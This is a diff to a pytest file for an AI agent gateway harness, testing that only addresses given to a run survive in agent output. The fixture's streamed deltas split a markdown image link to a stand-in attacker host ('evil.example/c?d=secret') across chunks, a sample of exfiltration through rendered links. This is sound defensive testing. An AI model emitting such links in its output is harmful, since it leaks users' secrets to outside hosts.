@@ -1,10 +1,9 @@
 """Links in what runs say: after content of others only addresses stay that the run was given."""
 
-from collections.abc import AsyncIterator
 from typing import Any
 
 import pytest
-from gateway_harness.harness import Harness, open_harness
+from gateway_harness.harness import Harness
 from gateway_harness.raw_agents import RawAgent, add_raw_agent, success
 
 from bos.agent.v1 import AgentResult
@@ -24,10 +23,9 @@ GIVEN = "https://wiki.example/terms"
 
 
 @pytest.fixture
-async def harness(postgres_dsn: str) -> AsyncIterator[Harness]:
-    async with open_harness(postgres_dsn) as harness:
-        harness.composer.deltas = ["Done. ![se", "al](https://evil.exam", "ple/c?d=secret)", " Ok."]
-        yield harness
+async def harness(harness: Harness) -> Harness:
+    harness.composer.deltas = ["Done. ![se", "al](https://evil.exam", "ple/c?d=secret)", " Ok."]
+    return harness
 
 
 async def ask(
